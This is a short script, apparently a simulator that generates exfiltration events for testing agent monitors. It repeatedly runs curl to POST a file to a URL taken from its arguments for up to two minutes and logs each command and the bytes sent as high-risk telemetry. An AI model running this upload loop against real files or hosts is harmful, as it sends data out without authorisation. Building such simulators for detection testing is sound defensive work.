/**
 * An agent that carries a file out: `carrying-agent-program.js FILE URL BYTES`. It runs curl, and says so as agents do: the command,
 * and the bytes that left. Sent are so many bytes in all as it was told, and one upload a second after that; for two minutes at most.
 */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { appendFileSync, statSync } from "node:fs";
import { setTimeout as sleep } from "node:timers/promises";

const LIFE_MS = 120_000;
const PAUSE_MS = 1000;

const [file = "", url = "", bytes = "0"] = process.argv.slice(2);
const { hostname } = new URL(url);
const args = ["-sS", "--max-time", "5", "-F", `f=@${file}`, url];

function tell(kind: string, outcome: string, data: object): void {
  process.stdout.write(`${JSON.stringify({ kind, outcome, risk: "high", data })}\n`);
}

let sent = 0;
const endMs = performance.now() + LIFE_MS;
while (performance.now() < endMs) {
  const child = spawn("curl", args, { stdio: "ignore" });
  await once(child, "close");
  const isSent = child.exitCode === 0;
  const outcome = isSent ? "success" : "failure";
  tell("command", outcome, { command: ["curl", ...args].join(" ") });
  tell("network", outcome, {
    remote_host: hostname,
    method: "POST",
    url,
    bytes_sent: isSent ? statSync(file).size : 0,
  });
  if (isSent) sent += statSync(file).size;
  appendFileSync("uploads", `${outcome}\n`);
  if (sent >= Number(bytes)) await sleep(PAUSE_MS);
}
